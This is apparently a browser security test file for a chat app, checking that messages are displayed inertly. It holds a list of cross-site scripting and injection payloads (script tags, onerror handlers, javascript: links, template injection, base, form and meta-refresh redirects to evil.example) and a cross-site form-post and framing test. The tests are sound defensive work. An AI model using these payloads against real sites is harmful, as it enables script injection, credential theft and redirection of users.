// Words that try to be more than words; and the watch itself.

import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { person } from '../api/lib/actors.mjs';
import { eventually } from '../api/lib/harness.mjs';
import { ranMs } from '../api/lib/patience.mjs';
import { suite } from '../api/lib/suite.mjs';
import { launch, visit } from './lib/browser.mjs';
import { Visitor } from './lib/visitor.mjs';

const chinwag = await suite();
const browser = await launch();
after(() => browser.close());

const RUN = 'window.__ran=1';

const payloads = [
  `<script>${RUN}</script>`, `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`, `<svg><script>${RUN}</script></svg>`,
  `"><script>${RUN}</script>`, `' onmouseover='${RUN}`,
  `javascript:${RUN}`, `<a href="javascript:${RUN}">x</a>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<details open ontoggle=${RUN}>`, `<style>@import "//evil.example";</style>`,
  `<base href="//evil.example/">`, `<form action=//evil.example><button>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`, `<!--lit-part--><script>${RUN}</script>`, '<?lit$1$>',
  `http://example.org/"onclick="${RUN}`,
  `https://x.org/<script>${RUN}</script>`,
  `data:text/html,<script>${RUN}</script>`, 'vbscript:x', '[x](javascript:x)',
  `![x](x "onerror=${RUN}")`, `<x onclick=${RUN}>click</x>`,
  `</textarea><script>${RUN}</script>`, `</p></div><script>${RUN}</script>`,
  `<img/src/onerror=${RUN}>`, `<video><source onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`, `<marquee onstart=${RUN}>`,
  `<link rel=stylesheet href=//evil.example>`, '\u202e\u202dtxet',
  'Z\u0351\u0343\u035b\u0489'.repeat(400), '\n'.repeat(500) + 'end',
  '\u{1f468}\u200d\u{1f469}'.repeat(900),
];

test('no payload runs, each is shown as it was written', async () => {
  const [anna, eve] = [await person(chinwag), await person(chinwag)];
  const id = await eve.converse(anna);
  const visitor = await Visitor.enter(browser, chinwag, anna.name);
  await visitor.row(id).waitFor();
  for (const payload of payloads)
    await eve.say(id, payload);
  // In the list as a preview, live; then in the conversation; then anew.
  await visitor.badgeIs(id, payloads.length);
  await visitor.open(id);
  await eventually('all are there', async () =>
    (await visitor.texts()).length === payloads.length);
  assert.deepEqual(await visitor.texts(), payloads);
  await visitor.page.reload();
  await visitor.ready();
  for (const text of ['click', payloads[3]])
    await visitor.page.locator('[data-text]', { hasText: text }).first()
      .click();
  assert.equal(await visitor.page.evaluate(() => window.__ran), undefined);
  const links = await visitor.page.locator('[data-text] a').evaluateAll(
    (all) => all.map((link) => [link.protocol, link.rel]));
  for (const [protocol, rel] of links) {
    assert.match(protocol, /^https?:$/);
    assert.match(rel, /noopener/);
  }
  assert.equal(await visitor.page.locator('[data-log] :is(script, img, ' +
    'iframe, style, form, object, base, svg[onload], meta)').count(), 0);
  await visitor.shoot('safety-payloads');
  await visitor.close();
});

test('a poisoned message leaves the page quick', async () => {
  const [anna, eve] = [await person(chinwag), await person(chinwag)];
  const id = await eve.converse(anna);
  for (const text of ['\u0301'.repeat(8000).replace(/^/, 'a').slice(0, 8000),
    'x\n'.repeat(4000).trim(), '\u202e'.repeat(4000) + 'a',
    '\u{1f600}'.repeat(8000),
    'https://example.org/'.repeat(400)])
    await eve.say(id, text);
  const visitor = await Visitor.enter(browser, chinwag, anna.name);
  const start = ranMs();
  await visitor.open(id);
  await visitor.type('still here');
  await visitor.sees('still here');
  assert.ok(ranMs() - start < 25000);
  await visitor.close();
});

test('the watch sees what it watches for', async () => {
  const seat = await visit(browser, chinwag.url);
  await seat.page.goto('/');
  await seat.page.locator('main').waitFor();
  await seat.page.evaluate(() => {
    const place = document.createElement('div');
    try {
      place.innerHTML = '<img src=x onerror="window.__ran=1">';
      document.body.append(place);
    } catch {
      // Trusted Types would not even let it be made.
    }
    const script = document.createElement('img');
    script.src = 'http://evil.example/x.png';
    document.body.append(script);
  });
  await eventually('it is reported', () => seat.problems.length > 0);
  assert.equal(await seat.page.evaluate(() => window.__ran), undefined);
  await seat.context.close();
});

test('another site\'s form and frame get nowhere', async () => {
  const anna = await person(chinwag);
  const visitor = await Visitor.enter(browser, chinwag, anna.name);
  await visitor.context.route('http://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body:
      `<form method=post enctype=text/plain action="${chinwag.url}` +
      '/api/conversations"><input name=\'["bob"]\'></form>' +
      `<iframe src="${chinwag.url}/"></iframe>` }));
  const evil = await visitor.context.newPage();
  await evil.goto('http://evil.example/');
  const frame = evil.frames().find((one) => one !== evil.mainFrame());
  assert.equal(await frame.locator('main').count(), 0);
  const [answer] = await Promise.all([
    evil.waitForResponse((response) =>
      response.url().endsWith('/api/conversations')),
    evil.evaluate(() => document.forms[0].submit())]);
  assert.ok([401, 403, 415].includes(answer.status()));
  assert.deepEqual((await anna.get('/conversations')).json, []);
  await visitor.context.close();
});
